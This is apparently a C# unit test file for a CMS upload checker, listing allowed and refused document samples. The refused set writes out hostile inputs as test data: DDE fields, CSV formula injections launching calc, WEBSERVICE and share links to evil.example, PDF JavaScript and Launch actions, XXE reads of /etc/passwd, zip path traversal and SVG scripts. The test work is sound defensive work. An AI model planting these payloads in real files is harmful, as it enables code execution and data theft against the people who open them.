using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using AgencyCMS.Media.Files;
using AgencyCMS.Testing.Files;

namespace AgencyCMS.Media.Tests.Files;

/// <summary>What a file is, against what its name says.</summary>
public sealed class FileKindsTests
{
    public static TheoryData<string, byte[]> Allowed { get; } = new()
    {
        { "report.pdf", Samples.Pdf() },
        { "REPORT.PDF", Samples.Pdf() },
        { "seal.png", Samples.Png },
        { "photo.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 16] },
        { "sign.gif", Encoding.ASCII.GetBytes("GIF89a......") },
        { "map.webp", [.. "RIFF"u8, 1, 0, 0, 0, .. "WEBPVP8 "u8] },
        { "letter.docx", Samples.Word() },
        { "links.docx", Samples.Word(("word/_rels/document.xml.rels", "", Samples.Relations(("hyperlink", "https://www.gov.cn/", true), ("image", "media/image1.png", false)))) },
        { "table.xlsx", Samples.Excel() },
        { "linked.xlsx", Samples.Excel(("xl/externalLinks/externalLink1.xml", Open + "spreadsheetml.externalLink+xml", "<externalLink><externalBook/></externalLink>")) },
        { "talk.pptx", Samples.Office("ppt/presentation.xml", "presentationml.presentation.main+xml") },
        { "text.odt", Samples.OpenDocument("<c/>", "Pictures/1.png", "Object 1/content.xml", "ObjectReplacements/Object 1", "Configurations2/images/Bitmaps/") },
        { "red.ofd", Samples.Zip("OFD.xml", "Doc_0/Document.xml") },
        { "invoice.ofd", Ofd(Attached("data.xml", "xml", "/Doc_0/Attachs/data.xml"), ("Doc_0/Attachs/data.xml", "<xbrl/>")) },
        { "with-table.ofd", Ofd(Attached("附表 2.1", "CSV", "1.dat"), ("Doc_0/Attachs/1.dat", "甲,乙\n")) },
        { "links.ofd", Ofd(Page("<URI URI='https://www.gov.cn/'/><URI URI='mailto:a@b.cn'/><GotoA AttachID='1'/><TextCode>file:///C:/a.exe javascript:</TextCode>")) },
        { "film.ofd", Ofd(("Doc_0/Res.xml", "<Res BaseLoc='Res'><MultiMedia Type='Video' Format='MP4'><MediaFile>a.mp4</MediaFile></MultiMedia></Res>"), ("Doc_0/Res/a.mp4", "x")) },
        { "old.doc", Samples.Ole("WordDocument", "1Table", "\u0001CompObj", "\u0005SummaryInformation", "ObjectPool/") },
        { "old.xls", Samples.Ole("Workbook", "_SX_DB_CUR/", "/0001") },
        { "old.ppt", Samples.Ole("PowerPoint Document", "Current User", "Pictures") },
        { "kept.wps", Samples.Ole("WordDocument") },
        { "old.xls", CompoundSample.Write(("Workbook", Sheets(0))) },
        { "all.zip", Samples.Zip(("附件/一.pdf", Samples.Pdf()), ("附件/二.docx", Samples.Word()), ("附件/空.txt", [])) },
        { "template-of-its-author.docx", Word(Relation("attachedTemplate", "file:///C:\\Users\\li\\Templates\\red.dotx")) },
        { "pasted-picture.docx", Word(Relation("image", "file:///C:\\Users\\li\\AppData\\Local\\Temp\\ksohtml\\wps1.png")) },
        { "fields.docx", Word(Field("begin", " HYPERLINK \"https://www.gov.cn/dde/\" \\h ", "separate", "DDE", "end") + Field("begin", " INCLUDEPICTURE \"C:\\\\附件 (2)\\\\1.png\" \\* MERGEFORMATINET ", "end") + "<w:r xmlns:w='w'><w:t>DDEAUTO cmd</w:t></w:r>") },
        { "formulas.xlsx", Samples.Excel(("xl/worksheets/sheet1.xml", Open + "spreadsheetml.worksheet+xml", "<worksheet><c><f>IF(A1=\"|\",'甲|乙'!B1,Sheet2!C1)</f></c></worksheet>")) },
        { "upper-case-type.docx", Samples.Word(("word/footer1.xml", (Open + "wordprocessingml.footer+xml").ToUpperInvariant(), "<f/>")) },
        { "prints-its-name.doc", CompoundSample.Write(("WordDocument", [.. new byte[600], .. Encoding.Unicode.GetBytes("DDEAUTO is a field. "), 0x13, 0, .. Encoding.Unicode.GetBytes(" HYPERLINK \"https://www.gov.cn/\" "), 0x15, 0])) },
        { "other-book.xls", CompoundSample.Write(("Workbook", Book(0x600, (0x1AE, [1, 0, 9, 0, 0, .. "\u0001\u0003a\u0003b.xls"u8])))) },
        { "old-sheets.xls", CompoundSample.Write(("Book", Book(0x500, (0x17, [6, 3, .. "Sheet1"u8])))) },
        { "prints-names.pdf", Samples.Pdf("1 0 obj<</Title(How /JavaScript \\(and /Launch\\) work) /T(JavaScript)>>endobj\n2 0 obj<</Length 30>>stream\nBT (the obj /JavaScript /JS ) Tj /Launch ET\nendstream endobj\n% /JavaScript /Launch \n3 0 obj<</FT/Tx/T(JS)>>endobj") },
        { "form.pdf", Samples.Pdf("1 0 obj<</AcroForm<</Fields[2 0 R]/DA(/Helv 0 Tf)>>>>endobj 2 0 obj<</FT/Tx/T(name)/V(/JavaScript )>>endobj\ntrailer<</Root 1 0 R>>") },
        { "packed-fine.pdf", PackedPdf("<</Title(/JavaScript )>>") },
        { "pages.ods", Samples.OpenDocument("<c xmlns:x='x' xmlns:t='t'><a x:href='http://www.gov.cn/'/><image x:href='Pictures/1.png'/><cell t:formula='of:=[.A1]&amp;&quot;|!&quot;'/></c>") },
        { "list.csv", Samples.Text("名称,金额\n道路,12\n") },
        { "numbers.csv", Samples.Text("ID;PLZ;Ort\n1;2;recall (3)\n") },
        { "note.txt", Encoding.Latin1.GetBytes("\u00b9\u00ab\u00bf\u00aa") },
    };

    public static TheoryData<string, byte[]> Refused { get; } = new()
    {
        { "page.pdf", Samples.Text("<!DOCTYPE html><script>x()</script>") },
        { "program.pdf", Samples.Program },
        { "picture.png", Samples.Pdf() },
        { "letter.docx", Samples.Excel() },
        { "letter.docx", Samples.Zip("evil.exe") },
        { "letter.docx", Samples.Pdf() },
        { "macros.docx", Samples.Word(("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", "x")) },
        { "renamed.docx", Samples.Word(("word/media/image1.png", "application/vnd.ms-office.vbaProject", "x")) },
        { "renamed-by-relation.docx", Samples.Word(("word/media/image1.png", "image/png", "x"), ("word/_rels/document.xml.rels", "", Samples.Relations(("vbaProject", "media/image1.png", false)))) },
        { "by-content.docx", Samples.Word(("word/media/image1.png", "image/png", "MZ...")) },
        { "macro-enabled.docx", Samples.Office("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml") },
        { "object.docx", Samples.Word(("word/embeddings/oleObject1.bin", Open + "oleObject", "x")) },
        { "control.docx", Samples.Word(("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<a/>")) },
        { "template.docx", Samples.Word(("word/_rels/settings.xml.rels", "", Samples.Relations(("attachedTemplate", "https://example.org/t.dotm", true)))) },
        { "outside-object.docx", Samples.Word(("word/_rels/document.xml.rels", "", Samples.Relations(("oleObject", "https://example.org/x.html!", true)))) },
        { "script-link.docx", Samples.Word(("word/_rels/document.xml.rels", "", Samples.Relations(("hyperlink", "javascript:alert(1)", true)))) },
        { "share.docx", Samples.Word(("word/_rels/document.xml.rels", "", Samples.Relations(("image", "file://10.0.0.1/x.png", true)))) },
        { "exchange.docx", Samples.Office("word/x.xml", "wordprocessingml.document.main+xml", ("word/footer1.xml", Open + "wordprocessingml.footer+xml", "<w:f xmlns:w='w'><w:fldChar/><w:instrText> DD</w:instrText><w:instrText>EAUTO c:\\x</w:instrText></w:f>")) },
        { "simple-exchange.docx", Samples.Word(("word/footer1.xml", Open + "wordprocessingml.footer+xml", "<w:f xmlns:w='w'><w:fldSimple w:instr='dde cmd'/></w:f>")) },
        { "entities.docx", Samples.Word(("word/footer1.xml", Open + "wordprocessingml.footer+xml", "<!DOCTYPE f [<!ENTITY a 'x'>]><f>&a;</f>")) },
        { "unknown.docx", Samples.Word(("word/x.bin", "", "x")) },
        { "merge.docx", Samples.Word(("word/settings.xml", Open + "wordprocessingml.settings+xml", "<w:settings xmlns:w='w'><w:mailMerge><w:connectString w:val='Data Source=\\\\evil.example\\s\\a.mdb'/></w:mailMerge></w:settings>")) },
        { "connected.xlsx", Samples.Excel(("xl/connections.xml", Open + "spreadsheetml.connections+xml", "<connections><connection refreshOnLoad='1'/></connections>")) },
        { "connected-by-another-type.xlsx", Samples.Excel(("xl/x.xml", "application/xml", "<connections><connection><webPr url='http://evil.example/q'/></connection></connections>")) },
        { "web.xlsx", Samples.Excel(("xl/worksheets/sheet1.xml", Open + "spreadsheetml.worksheet+xml", "<worksheet><c><f>_xlfn.WEBSERVICE(\"http://evil.example/?\"&amp;A1)</f></c></worksheet>")) },
        { "call.xlsx", Samples.Excel(("xl/worksheets/sheet1.xml", Open + "spreadsheetml.worksheet+xml", "<worksheet><c><f>CALL(\"Shell32\",\"x\")</f></c></worksheet>")) },
        { "web.ods", Samples.OpenDocument("<c xmlns:t='t' t:formula='of:=WEBSERVICE(&quot;http://evil.example/&quot;)'/>") },
        { "replacement.odt", Samples.OpenDocument("<c/>", "ObjectReplacements/a.js") },
        { "web.csv", Samples.Text("名称,值\n甲,=WEBSERVICE(\"http://evil.example/?\"&A1)\n") },
        { "quoted.csv", Samples.Text("名称,值\n\"=SUM(1,1)+cmd|' /C calc'!A0\",2\n") },
        { "long.csv", Samples.Text("=1" + new string('+', 1) + string.Concat(Enumerable.Repeat("1+", 150)) + "cmd|' /C calc'!A0\n") },
        { "own-separator.csv", Samples.Text("sep=x\naxx=cmd|' /C calc'!A0\n") },
        { "picture.csv", Samples.Text("甲,\"=IF(1,IMAGE(\"\"http://evil.example/\"\"),0)\"\n") },
        { "share.csv", Samples.Text("甲,='\\\\evil.example\\share\\[x.xlsx]S'!A1\n") },
        { "symbolic-in-another-order.csv", Samples.Text("ID;N;PWXL\nC;Y1;X1;EEXEC(\"calc\")\n") },
        { "picture.xlsx", Samples.Excel(("xl/worksheets/sheet1.xml", Open + "spreadsheetml.worksheet+xml", "<worksheet><c><f>_xlfn.IMAGE(\"http://evil.example/?\"&amp;A1)</f></c></worksheet>")) },
        { "elsewhere.ods", Samples.OpenDocument("<c xmlns:t='t' t:formula=\"of:=['file:////evil.example/s/x.ods'#$S.A1]\"/>") },
        { "database.ods", Samples.OpenDocument("<database-source-sql/>") },
        { "symbolic.csv", Samples.Text("ID;PWXL;N;E\nC;Y1;X1;K0;ECALL(\"Shell32\",\"x\")\n") },
        { "text-of-another-format.docx", Word(Relation("aFChunk", "chunk.xml", "Internal")) },
        { "text-of-another-format.docx", Samples.Word(("word/x.xml", Open + "wordprocessingml.document.main+xml", "<w:d xmlns:w='w'><w:altChunk/></w:d>")) },
        { "archive-as-part.docx", Samples.Word(("word/x.xml", "application/xml", "PK\u0003\u0004")) },
        { "blank-mode.docx", Word(Relation("attachedTemplate", "https://example.org/t.dotm", " External ")) },
        { "upper-case-mode.docx", Word(Relation("ATTACHEDTEMPLATE", "https://example.org/t.dotm", "EXTERNAL")) },
        { "no-mode.docx", Word("<Relationship Type='x/attachedTemplate' Target='https://example.org/t.dotm'/>", isRelation: true) },
        { "other-order.docx", Word("<r:Relationship xmlns:r='http://schemas.openxmlformats.org/package/2006/relationships' TargetMode='&#69;xternal' Target='https://example.org/t.dotm' Id='a' Type='http://x/attached&#84;emplate'/>", isRelation: true) },
        { "blank-type.docx", Word(Relation("oleObject ", "x.xml", "Internal")) },
        { "share-in-numbers.docx", Word(Relation("image", "%5C%5C10.0.0.1/x.png")) },
        { "share-with-slashes.docx", Word(Relation("image", "//10.0.0.1/x.png")) },
        { "share-file.docx", Word(Relation("image", " FILE:\\\\10.0.0.1\\x.png")) },
        { "share-template.docx", Word(Relation("attachedTemplate", "\\\\10.0.0.1\\t.dotm")) },
        { "binary-control.docx", Word(Relation("activeXControlBinary", "x.xml", "Internal")) },
        { "own-menu.docx", Word(Relation("ui/extensibility", "customUI/customUI.xml", "Internal")) },
        { "known-handler.docx", Word(Relation("hyperlink", "ms-msdt:/id PCWDiagnostic")) },
        { "twice.docx", Samples.Word(("word/footer1.xml", Open + "wordprocessingml.footer+xml", "<f/>"), ("WORD/footer1.xml", "", "<f/>")) },
        { "exchange-in-upper-case-type.docx", Samples.Word(("word/footer1.xml", (Open + "wordprocessingml.footer+xml").ToUpperInvariant(), Field("begin", "DDE c:\\x", "end"))) },
        { "exchange-in-data.docx", Samples.Word(("word/x.xml", "application/xml", Field("begin", "DDE c:\\x", "end"))) },
        { "exchange-in-text.docx", Word("<w:f xmlns:w='w'><w:fldChar w:fldCharType='begin'/><w:t>DDE</w:t><w:t>AUTO c:\\x</w:t><w:fldChar w:fldCharType='end'/></w:f>") },
        { "exchange-in-quotes.docx", Word(Field("begin", " \"DDEAUTO\" c:\\x", "end")) },
        { "exchange-in-a-field.docx", Word("<w:f xmlns:w='w'><w:fldChar w:fldCharType='begin'/><w:instrText> IF 1 </w:instrText><w:fldChar w:fldCharType='begin'/><w:instrText>dde<!-- x -->auto cmd</w:instrText><w:fldChar w:fldCharType='end'/></w:f>") },
        { "exchange-behind-blanks.docx", Word(Field("begin", new string(' ', 9000) + "DDE cmd", "end")) },
        { "text-from-elsewhere.docx", Word(Field("begin", "INCLUDETEXT \"https://example.org/x.docx\"", "end")) },
        { "text-from-a-share.docx", Word("<w:f xmlns:w='w'><w:fldSimple w:instr='includetext &quot;\\\\\\\\10.0.0.1\\\\s\\\\x.docx&quot;'/></w:f>") },
        { "picture-from-elsewhere.docx", Word(Field("begin", " INCLUDEPICTURE  http://example.org/x.png \\d", "end")) },
        { "picture-from-a-share.docx", Word(Field("begin", "INCLUDEPICTURE \"file://10.0.0.1/x.png\"", "end")) },
        { "run.pptx", Samples.Office("ppt/presentation.xml", "presentationml.presentation.main+xml", ("ppt/slides/slide1.xml", Open + "presentationml.slide+xml", "<s><hlinkClick action='ppaction://program'/></s>")) },
        { "formula.xlsx", Samples.Excel(("xl/worksheets/sheet1.xml", Open + "spreadsheetml.worksheet+xml", "<worksheet><c><f>cmd|'/C calc'!A0</f></c></worksheet>")) },
        { "name.xlsx", Samples.Excel(("xl/x.xml", Open + "spreadsheetml.sheet.main+xml", "<workbook><definedName>'cmd'|'/C calc'!A0</definedName></workbook>")) },
        { "object-link.xlsx", Samples.Excel(("xl/externalLinks/externalLink1.xml", Open + "spreadsheetml.externalLink+xml", "<x:externalLink xmlns:x='x'><x:oleLink/></x:externalLink>")) },
        { "macro-sheet.xlsx", Samples.Excel(("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", "<s/>")) },
        { "dialogue.xlsx", Samples.Excel(("xl/dialogsheets/sheet1.xml", Open + "spreadsheetml.dialogsheet+xml", "<s/>")) },
        { "exchange.xlsx", Samples.Excel(("xl/externalLinks/externalLink1.xml", Open + "spreadsheetml.externalLink+xml", "<externalLink><ddeLink ddeService='cmd'/></externalLink>")) },
        { "before.docx", [.. "GIF89a"u8, .. Samples.Word()] },
        { "behind.docx", [.. Samples.Word(), .. Samples.Program] },
        { "basic.odt", Samples.OpenDocument("<c/>", "Basic/Standard/Module1.xml") },
        { "scripts.odt", Samples.OpenDocument("<c/>", "Scripts/python/x.py") },
        { "event.odt", Samples.OpenDocument("<c xmlns:x='x' x:href='vnd.sun.star.script:a?language=Basic'/>") },
        { "object.odt", Samples.OpenDocument("<c/>", "Object 1") },
        { "formula.ods", Samples.OpenDocument("<c xmlns:t='t' t:formula='of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)'/>") },
        { "section.odt", Samples.OpenDocument("<c xmlns:x='x'><section-source x:href='https://example.org/x.odt'/></c>") },
        { "share.odt", Samples.OpenDocument("<c xmlns:x='x'><image x:href='file://10.0.0.1/x.png'/></c>") },
        { "exchange.ods", Samples.OpenDocument("<c><dde-source/></c>") },
        { "attached.ofd", Samples.Zip("OFD.xml", "Doc_0/Attachs/run.exe") },
        { "renamed.ofd", Samples.Zip(("OFD.xml", Samples.Text("<o/>")), ("Doc_0/Res/image.png", Samples.Program)) },
        { "script.ofd", Ofd(Attached("run.js", "js", "a.dat"), ("Doc_0/Attachs/a.dat", "new ActiveXObject('WScript.Shell').Run('calc')")) },
        { "script-by-format.ofd", Ofd(Attached("run", "bat", "a.xml"), ("Doc_0/Attachs/a.xml", "<a/>")) },
        { "script-by-name.ofd", Ofd(Attached("run.hta . ", "txt", "/Doc_0/Attachs/a.dat"), ("Doc_0/Attachs/a.dat", "x")) },
        { "other-content.ofd", Ofd(Attached("a.pdf", "pdf", "a.dat"), ("Doc_0/Attachs/a.dat", "x")) },
        { "list-under-another-name.ofd", Ofd(("Doc_0/list.dat", Attached("run.js", "js", "Attachs/a.dat").Content), ("Doc_0/Attachs/a.dat", "x")) },
        { "not-there.ofd", Ofd(Attached("a.pdf", "pdf", "b.pdf")) },
        { "on-a-share.ofd", Ofd(Attached("a.pdf", "pdf", @"\\10.0.0.1\a.pdf")) },
        { "path-in-two.ofd", Ofd(Attached("a.txt", "txt", "a<b/>.dat"), ("Doc_0/Attachs/.dat", "x")) },
        { "page.ofd", Ofd(Attached("a.xml", "xml", "a.xml"), ("Doc_0/Attachs/a.xml", "<a xmlns='http://www.w3.org/1999/xhtml'/>")) },
        { "flat-document.ofd", Ofd(Attached("a.xml", "xml", "a.xml"), ("Doc_0/Attachs/a.xml", "<?mso-application progid='Word.Document'?><a/>")) },
        { "action.ofd", Ofd(Page("<URI URI='file:///C:/Windows/System32/calc.exe'/>")) },
        { "action-script.ofd", Ofd(Page("<URI URI=' java&#9;script:alert(1)'/>")) },
        { "action-drive.ofd", Ofd(Page(@"<URI URI='C:\Windows\System32\calc.exe'/>")) },
        { "action-share.ofd", Ofd(Page("<URI URI='//10.0.0.1/a'/>")) },
        { "action-base.ofd", Ofd(Page("<URI URI='script:alert(1)' Base='java'/>")) },
        { "film-that-is-none.ofd", Ofd(("Doc_0/Res.xml", "<Res BaseLoc='Res'><MultiMedia Type='Video'><MediaFile>a.dat</MediaFile></MultiMedia></Res>"), ("Doc_0/Res/a.dat", "x")) },
        { "entity.ofd", Ofd(("Doc_0/a.xml", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>")) },
        { "twice.ofd", Samples.Zip(("OFD.xml", Samples.Text("<o/>")), ("OFD.xml", Samples.Text("<p/>"))) },
        { "twice.odt", Samples.OpenDocument("<c/>", "Content.xml") },
        { "renamed.zip", RawZip.Write(new RawEntry("a.txt", "calc") { Extra = RawZip.UnicodePath("a.txt", "a.bat") }) },
        { "own-name.zip", RawZip.Write(new RawEntry("a.txt", "calc") { OwnName = "a.bat" }) },
        { "setup.doc", Samples.Ole("_Tables") },
        { "macros.doc", Samples.Ole("WordDocument", "Macros/", "/VBA") },
        { "object.doc", Samples.Ole("WordDocument", "ObjectPool/", "/_1234567890") },
        { "exchange.doc", CompoundSample.Write(("WordDocument", [.. new byte[600], 0x13, .. Encoding.Unicode.GetBytes(" DDEAUTO cmd")])) },
        { "lower-case.doc", CompoundSample.Write(("WordDocument", [.. new byte[601], 0x13, .. "   ddeauto cmd"u8])) },
        { "small-exchange.doc", CompoundSample.WriteSmall("WordDocument", [.. new byte[100], 0x13, .. " DDE cmd"u8]) },
        { "in-pieces.doc", InPieces(" DDE", "AUTO cmd") },
        { "text-from-elsewhere.doc", InPieces("INCLUDETEXT \"http", "://example.org/x.doc\"") },
        { "picture-from-a-share.doc", InPieces("INCLUDEPICTURE \"\\\\\\\\10.0.0.1", "\\\\x.png\"") },
        { "locked.doc", InPieces("PAGE", " ", flags: 0x0100) },
        { "exchange.xls", CompoundSample.Write(("Workbook", Book(0x600, (0x1AE, [0, 0, 11, 0, 0, .. "cmd\u0003/C calc"u8])))) },
        { "wide-exchange.xls", CompoundSample.Write(("Workbook", Book(0x600, (0x1AE, [0, 0, 11, 0, 1, .. Encoding.Unicode.GetBytes("cmd\u0003/C calc")])))) },
        { "exchange-by-name.xls", CompoundSample.Write(("Workbook", Book(0x600, (0x23, [0x02, 0, 0, 0, 0, 0])))) },
        { "object-link-by-name.et", CompoundSample.Write(("Workbook", Book(0x600, (0x23, [0x10, 0, 0, 0, 0, 0])))) },
        { "exchange-of-1995.xls", CompoundSample.Write(("Book", Book(0x500, (0x17, [11, .. "cmd\u0003/C calc"u8])))) },
        { "exchange-in-the-other-book.xls", CompoundSample.Write(("Workbook", Book(0x600)), ("Book", Book(0x500, (0x17, [11, .. "cmd\u0003/C calc"u8])))) },
        { "small-exchange.xls", CompoundSample.WriteSmall("Workbook", Book(0x600, (0x1AE, [0, 0, 11, 0, 0, .. "cmd\u0003/C calc"u8]))) },
        { "small-old-macros.xls", CompoundSample.WriteSmall("Workbook", Sheets(1)) },
        { "sheet-that-lies.xls", CompoundSample.Write(("Workbook", [.. Book(0x600), 0x09, 0x08, 4, 0, 0, 6, 0x40, 0])) },
        { "locked.xls", CompoundSample.Write(("Workbook", Book(0x600, (0x2F, [0, 0])))) },
        { "run.ppt", CompoundSample.Write(("PowerPoint Document", [0, 0, 0xF3, 0x0F, 16, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0])) },
        { "macros.xls", Samples.Ole("Workbook", "_VBA_PROJECT_CUR/", "/VBA") },
        { "old-macros.xls", CompoundSample.Write(("Workbook", Sheets(1))) },
        { "object.xls", Samples.Ole("Workbook", "MBD0001/", "/\u0001Ole10Native") },
        { "controls.xls", Samples.Ole("Workbook", "Ctls") },
        { "object.ppt", CompoundSample.Write(("PowerPoint Document", [0x00, 0x00, 0x11, 0x10, 4, 0, 0, 0, 1, 2, 3, 4])) },
        { "macros.ppt", CompoundSample.Write(("PowerPoint Document", [0x0F, 0, 0xE8, 3, 20, 0, 0, 0, 0x0F, 0, 0xFF, 3, 0, 0, 0, 0])) },
        { "cut.doc", Samples.Ole("WordDocument")[..600] },
        { "script.pdf", Samples.Pdf("1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj") },
        { "spelled.pdf", Samples.Pdf("1 0 obj<</S/J#61vaScript>>endobj") },
        { "after-a-comment.pdf", Samples.Pdf("1 0 obj<</S/JavaScript%c\n/JS(x)>>endobj") },
        { "between-false-streams.pdf", Samples.Pdf("% stream\n1 0 obj<</S/JavaScript/JS(x)>>endobj\n% endstream") },
        { "after-a-nul.pdf", Samples.Pdf("1 0 obj<</S/Launch\0/F(cmd.exe)>>endobj") },
        { "running-address.pdf", Samples.Pdf("1 0 obj<</S/URI/URI(javascript:x)>>endobj") },
        { "launch.pdf", Samples.Pdf("1 0 obj<</S /Launch /F(cmd.exe)>>endobj") },
        { "file.pdf", Samples.Pdf("1 0 obj<</Type/EmbeddedFile/Length 3>>stream\nabc\nendstream endobj") },
        { "packed.pdf", PackedPdf("<</S/JavaScript/JS(x)>>") },
        { "locked.pdf", Samples.Pdf("1 0 obj<</Type/ObjStm/Filter/FlateDecode/Length 3>>stream\nabc\nendstream endobj") },
        { "in-a-stream.pdf", Samples.Pdf("1 0 obj<</Length 40>>stream\n9 0 obj<</S/JavaScript/JS(x)>>endobj\nendstream endobj") },
        { "in-a-text.pdf", Samples.Pdf("1 0 obj<</Title(\n9 0 obj<</S/Launch/F(cmd)>>endobj)>>endobj") },
        { "with-remarks.pdf", Samples.Pdf("5%\n0%x\nobj%y\n<</S/#4c#61unch/F(cmd)>>endobj") },
        { "in-the-trailer.pdf", Samples.Pdf("trailer<</Root<</OpenAction<</S/JavaScript/JS(x)>>>>>>") },
        { "later.pdf", Samples.Pdf("1 0 obj<</Type/Catalog>>endobj\nstartxref\n9\n%%EOF\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS 2 0 R>>>>endobj") },
        { "file-without-type.pdf", Samples.Pdf("1 0 obj<</Type/Filespec/F(a.exe)/EF<</F 2 0 R>>>>endobj") },
        { "attached.pdf", Samples.Pdf("1 0 obj<</Subtype/FileAttachment/FS 2 0 R>>endobj") },
        { "running-address-in-numbers.pdf", Samples.Pdf("1 0 obj<</S/URI/URI<6A6176617363726970743A78>>>endobj") },
        { "running-address-in-escapes.pdf", Samples.Pdf("1 0 obj<</S/URI/URI(\\152ava\\\nscript:x)>>endobj") },
        { "share.pdf", Samples.Pdf("1 0 obj<</AA<</O<</S/GoToR/F(\\\\\\\\10.0.0.1\\\\x)/D[0/Fit]>>>>>>endobj") },
        { "packed-behind-a-false-end.pdf", PackedPdf("<</T(" + new string('x', 100) + "\nendstream endobj)>> <</S/JavaScript/JS(x)>>", CompressionLevel.NoCompression, "1 0 2 126 ") },
        { "packed-in-a-text.pdf", PackedPdf("<</T(<</S/JavaScript/JS(x)>>)>>", CompressionLevel.Optimal, "1 5 ") },
        { "packed-twice.pdf", Samples.Pdf("1 0 obj<</Type/ObjStm/First 4/Filter[/FlateDecode/FlateDecode]>>stream\nabc\nendstream endobj") },
        { "packed-behind-a-place-told-elsewhere.pdf", PackedPdf("null ".PadRight(34) + "<</S/JavaScript/JS(x)>>", list: "10 0  ", first: "6 0 R") },
        { "packed-behind-two-places.pdf", PackedPdf("null ".PadRight(34) + "<</S/JavaScript/JS(x)>>", list: "10 0  ", first: "40/First 6") },
        { "packed-in-a-way-told-elsewhere.pdf", PackedPdf("null", list: "1 0 ", first: "4/DecodeParms 7 0 R") },
        { "packed-in-a-list-that-goes-on.pdf", PackedPdf("3 20 null".PadRight(22) + "<</S/JavaScript/JS(x)>>", list: "6 0 ", count: "2") },
        { "packed-in-a-list-that-is-longer.pdf", PackedPdf("null <</S/JavaScript/JS(x)>>", list: "6 0 3 5 ", count: "1") },
        { "packed-as-many-as-told-elsewhere.pdf", PackedPdf("null", list: "6 0 ", count: "1 0 R") },
        { "unpacked.pdf", Samples.Pdf("1 0 obj<</Type/ObjStm/N 1/First 4>>stream\n1 0 <</S/Launch/F(cmd)>>\nendstream endobj") },
        { "archive.pdf", [.. Samples.Pdf(), .. Samples.Zip("x.txt")] },
        { "archive.png", [.. Samples.Png, .. Samples.Zip("x.txt")] },
        { "all.zip", Samples.Zip("fine.pdf", "run.exe") },
        { "all.zip", Samples.Zip("page.html") },
        { "all.zip", Samples.Zip(("fine.pdf", Samples.Program)) },
        { "nested.zip", Samples.Zip(("in.zip", Samples.Zip("fine.txt"))) },
        { "macros.zip", Samples.Zip(("a/b.docx", Samples.Word(("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", "x")))) },
        { "out.zip", Samples.Zip("../../fine.pdf") },
        { "out.zip", Samples.Zip("a/../../fine.pdf") },
        { "absolute.zip", Samples.Zip("/etc/fine.pdf") },
        { "drive.zip", Samples.Zip("C:\\fine.pdf") },
        { "stream.zip", Samples.Zip("fine.txt:x.pdf") },
        { "turned.zip", Samples.Zip("fine\u202Efdp.txt") },
        { "control.zip", Samples.Zip("fine\u0007.pdf") },
        { "blank.zip", Samples.Zip("fine.exe .pdf/ .pdf") },
        { "twice.zip", Samples.Zip("fine.txt", "Fine.txt") },
        { "late.txt", Samples.Text(new string(' ', 5000) + "<html>") },
        { "late.txt", Samples.Text(new string('x', 70_000) + "<script>") },
        { "rich.txt", Samples.Text("{\\rtf1 x}") },
        { "exchange.csv", Samples.Text("名称,金额\n甲,=cmd|'/C calc'!A0\n") },
        { "note.txt", Samples.Text("  <html><body onload=x()>") },
        { "note.txt", Samples.Text("<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>") },
        { "note.txt", Samples.Program },
        { "list.csv", [0xFF, 0xFE, 0x3C, 0, 0x68, 0] },
    };

    public static TheoryData<string> Drawings { get; } =
    [
        "<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:l='http://www.w3.org/1999/xlink'><a l:href=' javascript:x()'/></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><image href='https://example.org/x.png'/></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject/></svg>",
        "<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'x()'>]><svg xmlns='http://www.w3.org/2000/svg'/>",
        "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'/>",
        "<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'https://example.org/svg11.dtd'><svg xmlns='http://www.w3.org/2000/svg'/>",
        "<?xml-stylesheet href='https://example.org/x.css'?><svg xmlns='http://www.w3.org/2000/svg'/>",
        "<svg xmlns='http://www.w3.org/2000/svg'><a><animate attributeName='href' values='javascript:x()'/></a></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><a><set attributeName='href' to='java&#10;script:x()'/></a></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><a href='data:image/svg+xml,x'/></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><style>@import 'https://example.org/x.css';</style></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><style><![CDATA[a{fill:url(  https://example.org/x)}]]></style></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><style>a{fill:\\75rl(https://example.org/x)}</style></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><rect style=\"fill:url('//example.org/x')\"/></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><rect filter='url(https://example.org/x#y)'/></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><b xmlns='http://www.w3.org/1999/xhtml'/></svg>",
    ];

    [Theory]
    [MemberData(nameof(Drawings))]
    public void Drawing_ThatRunsOrFetches_IsRefused(string svg)
    {
        // Act
        var fault = FileKinds.OfSite("x.svg")!.Check(new MemoryStream(Samples.Text(svg)));

        // Assert
        Assert.NotNull(fault);
    }

    [Fact]
    public void Drawing_WithGradientsAndUses_IsTaken()
    {
        // Arrange
        var svg = "<svg xmlns='http://www.w3.org/2000/svg'><defs><linearGradient id='a'/></defs><use href='#a'/><rect fill='url(#a)' style='opacity:1'/><style>.a{fill:url(\"#a\")}</style></svg>";

        // Act
